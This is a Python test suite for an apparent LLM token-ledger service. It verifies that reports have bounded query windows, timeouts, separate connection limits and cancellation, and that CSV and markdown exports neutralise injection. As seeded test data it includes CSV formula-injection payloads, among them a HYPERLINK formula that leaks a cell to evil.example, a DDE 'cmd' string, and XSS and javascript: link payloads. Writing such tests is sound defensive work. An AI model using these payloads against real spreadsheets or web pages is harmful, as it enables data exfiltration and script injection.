"""Reports cannot take a server down: bounded windows and bucket counts (refused before any SQL), a
statement timeout, their own few connections, and a query that stops when its client goes away. Also
the time zones PostgreSQL refuses, and exports that a spreadsheet or a markdown viewer cannot turn
into formulas or markup.

A report as slow as a report can be is made real without seeding millions of rows: another connection
holds an ACCESS EXCLUSIVE lock on `tl_usage_daily`, which every usage report reads (checks and settles
never do), so the report's query waits inside PostgreSQL for as long as the test wants, holding its
connection, exactly as a long scan would.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import logging
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import anyio
import httpx2
import psycopg
import pytest
from mcp import Client
from mcp.client.sse import sse_client
from mcp.client.streamable_http import streamable_http_client
from mcp_types import CallToolResult
from pydantic import ValidationError

from tests.servers import Served, serving
from tokenledger import reports
from tokenledger.cli import main
from tokenledger.errors import InvalidInput, ReportBusy, ReportTimeout, TokenLedgerError
from tokenledger.ledger import MAX_REPORT_ROWS, Ledger
from tokenledger.mcp import build_server
from tokenledger.reports import ReportQuery
from tokenledger.settings import ReportLimits, Settings
from tokenledger.store import Store, StoreRefused
from tokenledger.types import (
    BudgetSpec,
    CheckRequest,
    PriceSpec,
    Principal,
    TrackRequest,
    UsageQuery,
    explain_validation_error,
)

pytestmark = pytest.mark.anyio

ADMIN = Principal()
MODEL = "gpt-4o-mini"
REPORTS_APP = "tokenledger-reports"  # the application_name of report connections
TEST_TIMEOUT = 60


# --- helpers -----------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def rollups_locked(dsn: str) -> AsyncIterator[None]:
    """While inside, every usage report waits in PostgreSQL (see the module docstring)."""
    async with await psycopg.AsyncConnection.connect(dsn) as conn, conn.transaction():
        await conn.execute("lock table tl_usage_daily in access exclusive mode")
        yield


async def running_reports(dsn: str) -> list[str]:
    """The report queries running in this test's database right now."""
    async with await psycopg.AsyncConnection.connect(dsn, autocommit=True) as conn:
        cursor = await conn.execute(
            """select query from pg_stat_activity
                where datname = current_database() and application_name = %s and state = 'active'""",
            (REPORTS_APP,),
        )
        return [row[0] for row in await cursor.fetchall()]


async def eventually(condition: Callable[[], Awaitable[bool]]) -> None:
    """Return once `condition` holds (the caller bounds the wait); it is polled: PostgreSQL has no event."""
    while not await condition():  # noqa: ASYNC110 - pg_stat_activity has no event to wait on
        await anyio.sleep(0.05)


async def until_reports_run(dsn: str, count: int) -> None:
    async def running() -> bool:
        return len(await running_reports(dsn)) >= count

    await eventually(running)


async def until_no_report_runs(dsn: str) -> None:
    async def none_left() -> bool:
        return not await running_reports(dsn)

    await eventually(none_left)


async def until_counted(items: list[str], count: int) -> None:
    async def counted() -> bool:
        return len(items) >= count

    await eventually(counted)


def limited(**limits: Any) -> Settings:
    """Settings of a server with these report limits (and nothing else from the environment)."""
    return dataclasses.replace(Settings.from_env({}), reports=ReportLimits(**limits))


def text_of(result: CallToolResult) -> str:
    return " ".join(getattr(block, "text", "") for block in result.content)


# --- windows: bounded before anything runs -----------------------------------------------------


@pytest.mark.parametrize(
    ("since", "accepted"),
    [
        ("36525d", True),  # 100 years back: the longest duration
        ("36526d", False),
        ("999999d", False),
        ("999999w", False),
        ("1900-01-01T00:00:00+00:00", True),
        ("1899-12-31T23:59:59+00:00", False),
        ("0001-01-01T00:00:00Z", False),
        ("9999-01-01T00:00:00+00:00", True),
        ("9999-01-01T00:00:01+00:00", False),
        ("9999-12-31T23:00:00-05:00", False),  # past year 9999 once in UTC
    ],
)
def test_durations_and_timestamps_are_bounded(since: str, accepted: bool) -> None:
    if accepted:
        assert ReportQuery.model_validate({"since": since}).since is not None
        return
    with pytest.raises(ValidationError) as refused:
        ReportQuery.model_validate({"since": since})
    message = explain_validation_error(refused.value)
    assert message.startswith(f"since: got {since!r}; allowed: ") and "\n" not in message
    assert "36525d (100 years)" in message or "between 1900-01-01 and 9999-01-01 (UTC)" in message


async def test_since_999999d_is_one_clear_line_on_every_surface(
    ledger: Ledger,
    dsn: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    expected = "since: got '999999d'; allowed: a duration back from now of at most 36525d (100 years)"
    with pytest.raises(ValidationError) as library:
        ReportQuery.model_validate({"view": "summary", "since": "999999d"})
    assert explain_validation_error(library.value) == expected

    caplog.set_level(logging.DEBUG)
    async with Client(build_server(ledger, default_principal=ADMIN)) as client:
        result = await client.call_tool("report", {"view": "timeseries", "since": "999999d"})
    assert result.is_error and text_of(result) == f"Error executing tool report: {expected}"
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info], "no traceback logged"

    monkeypatch.setenv("TOKENLEDGER_DATABASE_URL", dsn)
    assert main(["report", "--since", "999999d"]) == 1
    assert capsys.readouterr().err == f"tokenledger: {expected}\n"


async def test_more_than_10000_buckets_are_refused_before_any_query(ledger: Ledger) -> None:
    store = ledger.store
    await store.timezone_names()  # read once per store; not what this test counts
    until = datetime(2026, 11, 1, tzinfo=UTC)
    before = (
        store.pool.get_stats().get("requests_num", 0),
        store.report_pool.get_stats().get("requests_num", 0),
    )
    for since, bucket in [
        (datetime(1900, 1, 1, tzinfo=UTC), "hour"),  # the issue's call, since as early as allowed
        (until - timedelta(hours=MAX_REPORT_ROWS + 1), "hour"),
        (until - timedelta(days=MAX_REPORT_ROWS + 1), "day"),
    ]:
        query = ReportQuery(view="timeseries", bucket=bucket, since=since, until=until)
        with pytest.raises(InvalidInput) as refused:
            await ledger.report(query)
        assert refused.value.field == "bucket" and "at most 10,000 buckets" in str(refused.value)
        longest = {"hour": "416 days", "day": "10,000 days"}[bucket]
        assert f"with bucket {bucket!r} the window (since, until) may span at most {longest}" in str(
            refused.value
        )
    after = (
        store.pool.get_stats().get("requests_num", 0),
        store.report_pool.get_stats().get("requests_num", 0),
    )
    assert after == before, "a refused timeseries ran no query at all"

    at_the_limit = ReportQuery(
        view="timeseries", bucket="hour", since=until - timedelta(hours=MAX_REPORT_ROWS), until=until
    )
    assert len((await ledger.report(at_the_limit)).rows) == MAX_REPORT_ROWS


async def test_every_view_answers_or_refuses_at_the_extremes(ledger: Ledger) -> None:
    """The widest windows allowed reach no overflow and no internal error: an answer or a clear refusal."""
    # A total budget nearly used up: over a window ending in 9998 its run-out moment would be past 9999.
    await ledger.set_budget(BudgetSpec(name="total", limit=Decimal(1000), period="total"))
    await ledger.track_usage(TrackRequest(model=MODEL, input_tokens=999, output_tokens=0))
    earliest, latest = datetime(1900, 1, 1, tzinfo=UTC), datetime(9999, 1, 1, tzinfo=UTC)
    windows = [
        {"since": earliest, "until": latest},
        {"since": earliest},
        {"until": earliest},
        {"since": datetime(9998, 12, 31, tzinfo=UTC), "until": latest},
        {"since": "36525d"},
    ]
    for window in windows:
        for view in reports.View.__args__:  # type: ignore[attr-defined]
            for bucket in (None, "month"):
                query = ReportQuery.model_validate({"view": view, "bucket": bucket, **window})
                try:
                    report = await ledger.report(query)
                except InvalidInput as error:
                    # A chargeback covers the month its `period` names: a window is refused by name.
                    expected = ("since", "until", "bucket") if view == "chargeback" else ("bucket",)
                    assert error.field in expected, f"{view} {window}: {error}"
                else:
                    assert report.view == view
    forecast = await ledger.report(ReportQuery(view="forecast", since=earliest, until=latest))
    assert forecast.rows[0]["runs_out_at"] is None  # past the calendar: not a moment


# --- time zones: what PostgreSQL accepts -------------------------------------------------------


@pytest.mark.parametrize("zone", ["posixrules", "localtime"])
async def test_zones_postgresql_refuses_are_refused_on_every_path(
    ledger: Ledger, dsn: str, zone: str
) -> None:
    from zoneinfo import ZoneInfo

    ZoneInfo(zone)  # the trap: Python loads it ...
    async with await psycopg.AsyncConnection.connect(dsn) as conn:
        with pytest.raises(psycopg.errors.InvalidParameterValue):  # ... PostgreSQL does not
            await conn.execute("select now() at time zone %s", (zone,))

    for call in (
        lambda: ledger.report(ReportQuery(view="timeseries", timezone=zone)),
        lambda: ledger.report(ReportQuery(view="usage", bucket="day", timezone=zone)),
        lambda: ledger.usage(UsageQuery(bucket="hour", timezone=zone)),
        lambda: ledger.dashboard(timezone=zone),
        lambda: ledger.set_budget(BudgetSpec(name="daily", limit=Decimal(100), period="day", timezone=zone)),
    ):
        with pytest.raises(InvalidInput) as refused:
            await call()
        error = refused.value
        assert error.field == "timezone" and zone in str(error) and "Europe/Paris" in str(error)
        assert not isinstance(error, StoreRefused), "refused in Python, before any write"
    assert await ledger.list_budgets() == []

    async with Client(build_server(ledger, default_principal=ADMIN)) as client:
        for tool, arguments in [
            ("report", {"view": "timeseries", "timezone": zone}),
            ("manage_budget", {"action": "set", "name": "daily", "limit": "100", "timezone": zone}),
        ]:
            result = await client.call_tool(tool, arguments)
            assert result.is_error and f"timezone: '{zone}' is not allowed" in text_of(result)


# --- time limit and concurrency ----------------------------------------------------------------


async def test_a_report_past_the_time_limit_is_stopped(dsn: str) -> None:
    limits = ReportLimits(timeout_seconds=0.5, wait_seconds=5)
    async with Ledger(await Store.open(dsn, migrate=False, max_size=2, reports=limits)) as ledger:
        with anyio.fail_after(TEST_TIMEOUT):
            async with rollups_locked(dsn):
                with pytest.raises(ReportTimeout) as stopped:
                    await ledger.report(ReportQuery(view="summary"))
            assert "stopped after 0.5 s" in str(stopped.value) and "narrow the window" in str(stopped.value)
            assert await running_reports(dsn) == []
            # The limit is the transaction's own: the same connection then serves a report that runs.
            assert (await ledger.report(ReportQuery(view="summary"))).totals is not None


async def test_report_connections_only_read_and_the_limit_is_the_transactions(
    store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    settings = (
        "current_setting('transaction_read_only') as read_only, current_setting('statement_timeout') as limit"
    )
    assert await store._fetch_report_rows(f"select {settings}", {}) == [{"read_only": "on", "limit": "30s"}]
    with pytest.raises(TokenLedgerError, match="internal error"):  # logged under an id, with its cause:
        await store._fetch_report_rows("create table tl_scratch (n int)", {})
    assert "read-only transaction" in caplog.text  # read_only_sql_transaction (25006)
    async with store.report_pool.connection() as conn:  # the same connection, outside a report
        cursor = await conn.execute("show statement_timeout")
        assert await cursor.fetchone() == ("0",)


async def test_reports_never_take_the_connections_checks_and_settles_need(dsn: str) -> None:
    """Six reports at once against a ledger pool of two connections: two run (on their own
    connections), four wait their bounded time and are refused as busy, and checks and settles answer
    meanwhile. Before, the first two reports took both ledger connections and every check failed."""
    limits = ReportLimits(concurrency=2, timeout_seconds=30, wait_seconds=0.5)
    async with Ledger(await Store.open(dsn, migrate=False, max_size=2, reports=limits)) as ledger:
        outcomes: list[str] = []

        async def one_report() -> None:
            try:
                await ledger.report(ReportQuery(view="summary"))
                outcomes.append("answered")
            except ReportBusy as error:
                assert "reports are busy" in str(error) and error.retry_after_seconds >= 1
                outcomes.append("busy")

        with anyio.fail_after(TEST_TIMEOUT):
            async with anyio.create_task_group() as tasks, rollups_locked(dsn):
                for _ in range(6):
                    tasks.start_soon(one_report)
                await until_reports_run(dsn, 2)
                with anyio.fail_after(5):
                    check = await ledger.check_budget(
                        CheckRequest(model=MODEL, input_tokens=10, max_output_tokens=10)
                    )
                    await ledger.track_usage(
                        TrackRequest(
                            model=MODEL,
                            reservation_id=check.reservation_id,
                            input_tokens=10,
                            output_tokens=5,
                        )
                    )
                await until_counted(outcomes, 4)  # the four queued ones give up while the lock holds
                assert len(await running_reports(dsn)) == 2
            assert sorted(outcomes) == ["answered"] * 2 + ["busy"] * 4


# --- the whole server, over HTTP ---------------------------------------------------------------


@contextlib.asynccontextmanager
async def mcp_client(served: Served, key: str, kind: str = "http") -> AsyncIterator[Client]:
    async with contextlib.AsyncExitStack() as stack:
        if kind == "http":
            http = await stack.enter_async_context(
                httpx2.AsyncClient(headers={"Authorization": f"Bearer {key}"}, timeout=httpx2.Timeout(30))
            )
            transport: Any = streamable_http_client(f"{served.base}/mcp", http_client=http)
        else:
            transport = sse_client(
                f"{served.base}/sse",
                headers={"Authorization": f"Bearer {key}"},
                timeout=10,
                sse_read_timeout=30,
            )
        yield await stack.enter_async_context(Client(transport, read_timeout_seconds=30))


async def test_ten_worst_case_reports_over_http_leave_checks_and_settles_answering(dsn: str) -> None:
    settings = limited(concurrency=2, timeout_seconds=3, wait_seconds=1)
    with anyio.fail_after(TEST_TIMEOUT):
        async with serving(dsn, settings) as served:
            viewer, _ = await served.ledger.create_key(role="viewer")
            member, _ = await served.ledger.create_key(role="member", user="ana")
            await served.ledger.set_budget(BudgetSpec(name="month", limit=Decimal(10_000)))

            # The issue's call, ten at once: refused before any query, by the window's bound.
            async def issue_call(answers: list[str]) -> None:
                async with mcp_client(served, viewer) as client:
                    result = await client.call_tool(
                        "report", {"view": "timeseries", "bucket": "hour", "since": "0001-01-01T00:00:00Z"}
                    )
                    answers.append(text_of(result) if result.is_error else "answered")

            refusals: list[str] = []
            async with anyio.create_task_group() as tasks:
                for _ in range(10):
                    tasks.start_soon(issue_call, refusals)
            assert len(refusals) == 10 and all("since: got '0001-01-01T00:00:00Z'" in a for a in refusals)

            # Ten reports that would each run as long as PostgreSQL lets them (the widest window allowed).
            answers: list[str] = []

            async def worst_report() -> None:
                async with mcp_client(served, viewer) as client:
                    result = await client.call_tool(
                        "report", {"view": "usage", "group_by": ["session"], "since": "36525d"}
                    )
                    answers.append(text_of(result) if result.is_error else "answered")

            async with anyio.create_task_group() as tasks, rollups_locked(dsn):
                for _ in range(10):
                    tasks.start_soon(worst_report)
                await until_reports_run(dsn, 2)
                with anyio.fail_after(5):  # generous: a correctness bound, not a benchmark
                    async with mcp_client(served, member) as client:
                        check = await client.call_tool(
                            "check_budget", {"model": MODEL, "input_tokens": 100, "max_output_tokens": 50}
                        )
                        assert not check.is_error, text_of(check)
                        assert isinstance(check.structured_content, dict)
                        reservation = check.structured_content["reservation_id"]
                        track = await client.call_tool(
                            "track_usage",
                            {
                                "model": MODEL,
                                "reservation_id": reservation,
                                "input_tokens": 100,
                                "output_tokens": 20,
                            },
                        )
                        assert not track.is_error, text_of(track)
                await until_counted(answers, 10)
            timed_out = [a for a in answers if "narrow the window" in a]
            busy = [a for a in answers if "reports are busy" in a]
            assert len(timed_out) + len(busy) == 10, answers
            assert len(timed_out) >= 1 and len(busy) >= 1
            assert await running_reports(dsn) == []
            async with mcp_client(served, viewer) as client:  # and the server reports again
                result = await client.call_tool("report", {"view": "summary"})
                assert not result.is_error and isinstance(result.structured_content, dict)
                assert result.structured_content["totals"]["requests"] == 1


@pytest.mark.parametrize("kind", ["http", "sse"])
async def test_a_client_that_goes_away_cancels_its_report_query(dsn: str, kind: str) -> None:
    settings = limited(timeout_seconds=600)  # only the client's leaving can stop it
    with anyio.fail_after(TEST_TIMEOUT):
        async with serving(dsn, settings) as served:
            viewer, _ = await served.ledger.create_key(role="viewer")
            async with rollups_locked(dsn):
                async with anyio.create_task_group() as tasks:

                    async def leaving_client() -> None:
                        async with mcp_client(served, viewer, kind) as client:
                            await client.call_tool("report", {"view": "summary", "since": "36525d"})

                    tasks.start_soon(leaving_client)
                    await until_reports_run(dsn, 1)
                    tasks.cancel_scope.cancel()  # the client closes its connection mid-call
                with anyio.fail_after(10):  # the lock still holds: only a cancel ends the query
                    await until_no_report_runs(dsn)


async def test_a_browser_that_leaves_the_dashboard_cancels_its_queries(dsn: str) -> None:
    settings = limited(timeout_seconds=600)
    with anyio.fail_after(TEST_TIMEOUT):
        async with serving(dsn, settings) as served:
            viewer, _ = await served.ledger.create_key(role="viewer")
            async with rollups_locked(dsn):
                async with anyio.create_task_group() as tasks:

                    async def leaving_browser() -> None:
                        async with httpx2.AsyncClient(
                            timeout=30, cookies={"tokenledger_key": viewer}
                        ) as http:
                            await http.get(f"{served.base}/dashboard")

                    tasks.start_soon(leaving_browser)
                    await until_reports_run(dsn, 1)
                    tasks.cancel_scope.cancel()
                with anyio.fail_after(10):
                    await until_no_report_runs(dsn)


@pytest.mark.parametrize("zone", ["posixrules", "localtime"])
async def test_dashboard_refuses_zones_postgresql_refuses(dsn: str, zone: str) -> None:
    with anyio.fail_after(TEST_TIMEOUT):
        async with serving(dsn) as served, httpx2.AsyncClient(timeout=30) as http:
            viewer, _ = await served.ledger.create_key(role="viewer")
            page = await http.get(
                f"{served.base}/dashboard",
                params={"tz": zone},
                headers={"Cookie": f"tokenledger_key={viewer}"},
            )
            assert page.status_code == 400 and f"timezone: &#x27;{zone}&#x27; is not allowed" in page.text


# --- exports: no formulas, no markup -----------------------------------------------------------

# Stored names an attacker can choose: attribution values (identifiers), request ids and a tenant-priced
# model name (any printable text), budget names.
FORMULAS = ("=1+2", "+cmd", "-2+3", "@SUM")
ANY_TEXT = (
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "`code`|cell",
    "\uff1dcmd|' /C calc'!A0",  # a full-width equals sign
    "[link=https://evil.example]click[/link]",  # rich's own markup
)
EVIL_MODEL = "<img src=x onerror=alert(1)>"


async def seed_hostile_names(ledger: Ledger) -> None:
    await ledger.set_price(PriceSpec(model=EVIL_MODEL, input=Decimal("0.000001"), output=Decimal("0.000002")))
    for feature in FORMULAS:
        await ledger.track_usage(TrackRequest(model=MODEL, feature=feature, input_tokens=10, output_tokens=5))
    for request_id in ANY_TEXT:
        await ledger.track_usage(
            TrackRequest(model=MODEL, request_id=request_id, input_tokens=1, output_tokens=1)
        )
    await ledger.track_usage(TrackRequest(model=EVIL_MODEL, input_tokens=3, output_tokens=1))
    for name in ("@SUM", "-cmd"):
        await ledger.set_budget(BudgetSpec(name=name, limit=Decimal(100)))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def assert_no_formula(text: str) -> list[list[str]]:
    """Every cell of the CSV is quoted, and none a spreadsheet would run (a plain negative number may
    start with -)."""
    lines = text.splitlines()
    cells = list(csv.reader(io.StringIO(text)))
    for line, row in zip(lines, cells, strict=True):
        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in row), "every cell quoted"
        for cell in row:
            is_number = cell.startswith("-") and cell[1:].replace(".", "", 1).isdigit()
            assert not cell.startswith(FORMULA_STARTS) or is_number, cell
    return cells


def markdown_html(text: str) -> str:
    """The markdown as a permissive renderer shows it (raw HTML on, every link scheme allowed)."""
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark").enable("table")
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(renderer.render(text))


def assert_no_markup(text: str, columns: int) -> None:
    html = markdown_html(text)
    assert "<img" not in html and "<a " not in html and "<code>" not in html, html
    for row in html.split("<tr>")[1:]:
        assert row.count("<td") + row.count("<th") == columns, "a | in a value split its cell"


async def test_exports_neutralise_formulas_and_markup(ledger: Ledger) -> None:
    await seed_hostile_names(ledger)
    usage = await ledger.report(ReportQuery(view="usage", group_by=["feature", "model"], since="1h"))
    top = await ledger.report(ReportQuery(view="top", since="1h", limit=100))
    budgets = await ledger.report(ReportQuery(view="budgets"))
    shown = {value for report in (usage, top, budgets) for row in report.rows for value in row.values()}
    assert {*FORMULAS, *ANY_TEXT, EVIL_MODEL, "-cmd"} <= shown  # json keeps the stored text as it is

    for report, column, hostile in [
        (usage, "feature", FORMULAS),
        (top, "request_id", ANY_TEXT),
        (budgets, "name", ("@SUM", "-cmd")),
    ]:
        cells = assert_no_formula(reports.formatted(report, "csv").text or "")
        header, *rows = cells
        values = {row[header.index(column)] for row in rows}
        for name in hostile:
            assert (("'" + name) if name.startswith(FORMULA_STARTS) else name) in values
        assert_no_markup(reports.formatted(report, "markdown").text or "", len(header))
    usage_markdown = reports.formatted(usage, "markdown").text or ""
    assert "\\<img src=x onerror=alert(1)\\>" in usage_markdown
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown_html(usage_markdown)  # shown, as text
    top_markdown = markdown_html(reports.formatted(top, "markdown").text or "")
    assert "[x](javascript:alert(1))" in top_markdown and "`code`|cell" in top_markdown

    async with Client(build_server(ledger, default_principal=ADMIN)) as client:
        result = await client.call_tool("report", {"view": "usage", "group_by": ["feature"], "format": "csv"})
        assert isinstance(result.structured_content, dict)
        assert '"\'=1+2"' in assert_no_formula_text(result.structured_content["text"])


def assert_no_formula_text(text: str) -> str:
    assert_no_formula(text)
    return text


def test_plain_negative_numbers_stay_numbers() -> None:
    rows: list[dict[str, reports.Cell]] = [
        {"error": -12, "percent": "-3.5", "formula": "-3.5+1", "name": "-cmd", "sum": "=SUM(A1:A9)"}
    ]
    text = reports.render(rows, "csv") or ""
    assert text.splitlines()[1] == '"-12","-3.5","\'-3.5+1","\'-cmd","\'=SUM(A1:A9)"'


def test_cli_exports_are_neutralised(
    dsn: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    async def seeded() -> None:
        async with Ledger(await Store.open(dsn, migrate=False)) as ledger:
            await seed_hostile_names(ledger)

    anyio.run(seeded)
    monkeypatch.setenv("TOKENLEDGER_DATABASE_URL", dsn)
    base = ["report", "--view", "top", "--since", "1h", "--limit", "100"]
    exported = tmp_path / "top.csv"
    assert main([*base, "--format", "csv", "--output", str(exported)]) == 0
    cells = assert_no_formula(exported.read_text())
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in {cell for row in cells for cell in row}
    markdown = tmp_path / "top.md"
    assert main([*base, "--format", "markdown", "--output", str(markdown)]) == 0
    assert_no_markup(markdown.read_text(), len(cells[0]))
    capsys.readouterr()
    # The terminal table shows stored text as written, not as rich's own markup.
    assert main([*base]) == 0
    assert "[link=https://evil.example]click[/link]" in capsys.readouterr().out
